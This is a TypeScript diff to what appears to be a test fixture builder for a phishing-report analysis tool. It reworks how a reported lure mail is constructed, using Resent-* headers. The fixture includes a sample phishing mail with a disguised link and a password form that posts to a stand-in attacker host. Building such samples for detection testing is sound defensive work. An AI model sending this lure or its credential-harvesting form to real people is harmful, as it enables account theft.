@@ -171,12 +171,18 @@ const threat = (tactic: string, tacticName: string, technique: string, technique
   technique: [{ id: technique, name: techniqueName, reference: `https://attack.mitre.org/techniques/${technique}/` }],
 });
 
+/** The button "report" of a mail program hands the mail on as it came (RFC 5322, 3.6.6). */
 function reportedLure(sentMs: number): string {
-  const lure = mailText({
+  return mailText({
     from: '"IT Service Desk" <service@accounts-portal.test>',
     to: [cast.victim.mail],
     subject: "Your password expires today - verify your account now",
     messageId: "<lure-1@accounts-portal.test>",
+    headers: [
+      ["Resent-From", cast.victim.mail],
+      ["Resent-To", cast.abuse],
+      ["Resent-Date", mailDate(sentMs + 30 * minuteMs)],
+    ],
     sentMs,
     received: [
       `from mail.accounts-portal.test (mail.accounts-portal.test [${cast.attacker}]) by mx.example.test with ESMTP id 1; ${new Date(sentMs).toUTCString()}`,
@@ -185,7 +191,6 @@ function reportedLure(sentMs: number): string {
     text: `Dear user,\n\nyour password expires today. Verify your account within 24 hours or it will be suspended:\n\nhttp://${cast.attacker}/verify?user=${cast.victim.name}\n\nIT Service Desk`,
     html: `<p>Dear user,</p><p>your password expires today. Verify your account within 24 hours or it will be suspended:</p><p><a href="http://${cast.attacker}/verify?user=${cast.victim.name}">https://portal.example.test/password</a></p><form action="http://${cast.attacker}/take"><input type="password" name="password"></form><p>IT Service Desk</p>`,
   });
-  return forwarded("one", cast.victim.mail, sentMs + 3 * minuteMs, "Is this real?", lure);
 }
 
 function reportedNewsletter(sentMs: number): string {
@@ -205,6 +210,8 @@ function reportedNewsletter(sentMs: number): string {
   return forwarded("two", cast.other.mail, sentMs + 5 * minuteMs, "Not sure about this one", newsletter);
 }
 
+const mailDate = (timeMs: number) => new Date(timeMs).toUTCString().replace("GMT", "+0000");
+
 /** A mail that somebody hands on as an attachment, as people are asked to. */
 function forwarded(id: string, from: string, sentMs: number, subject: string, reported: string): string {
   const boundary = `=_report_${id}`;
@@ -212,7 +219,7 @@ function forwarded(id: string, from: string, sentMs: number, subject: string, re
     `From: ${from}`,
     `To: ${cast.abuse}`,
     `Subject: ${subject}`,
-    `Date: ${new Date(sentMs).toUTCString().replace("GMT", "+0000")}`,
+    `Date: ${mailDate(sentMs)}`,
     `Message-ID: <report-${id}@example.test>`,
     "MIME-Version: 1.0",
     `Content-Type: multipart/mixed; boundary="${boundary}"`,
